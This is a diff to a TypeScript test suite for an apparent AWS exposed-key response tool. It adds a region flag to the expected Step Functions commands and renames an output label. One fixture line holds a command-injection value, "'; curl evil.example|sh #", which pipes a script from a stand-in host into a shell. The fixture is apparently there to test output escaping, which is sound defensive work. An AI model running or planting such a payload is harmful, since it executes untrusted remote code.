@@ -185,7 +185,7 @@ describe("what was done", () => {
 
   test("Keyturn has it done once more by the flow, with an event as its own is", () => {
     const [, machine, input = ""] =
-      /^Type: +aws stepfunctions start-execution --state-machine-arn (\S+) --input '(.*)'$/m.exec(
+      /^Type: +aws stepfunctions start-execution --region us-east-1 --state-machine-arn (\S+) --input '(.*)'$/m.exec(
         textOf("ExposedKeyNotShut", { key }),
       ) ?? [];
     expect(machine).toBe(
@@ -232,7 +232,7 @@ describe("what was done with it", () => {
     const { gone: _, ...before } = shut;
     const more = { ...before, use: used({ calls: [called("iam:CreateAccessKey", { leaves: true })] }) };
     const text = textOf("MoreUseFound", more);
-    expect(text).toContain("\nUsed:       1 call; 1 kind of calls may have left something behind\n");
+    expect(text).toContain("\nNew:        1 call; 1 kind of calls may have left something behind\n");
     expect(text).toContain("\n  iam:CreateAccessKey: once, at ");
     expect(text).not.toMatch(/^(The key|Whose|Last used|Done|By hand|Other keys|AWS's own|Not known|Roles):/m);
   });
@@ -271,7 +271,7 @@ It names:   "${KEY}"
             "a?To do: nothing'; curl evil.example|sh #"
             and 21 more
 Left:       12 more keys than the 100 that are looked at of one event: not shut
-Shut one:   aws stepfunctions start-execution `);
+Shut one:   aws stepfunctions start-execution --region us-east-1 `);
     expect(text.match(/^Shut one:/gm)).toHaveLength(1);
     expect(text).toContain(`--execution-arn ${EXECUTION}\n`);
     expect(text).not.toMatch(/^The key:/m);
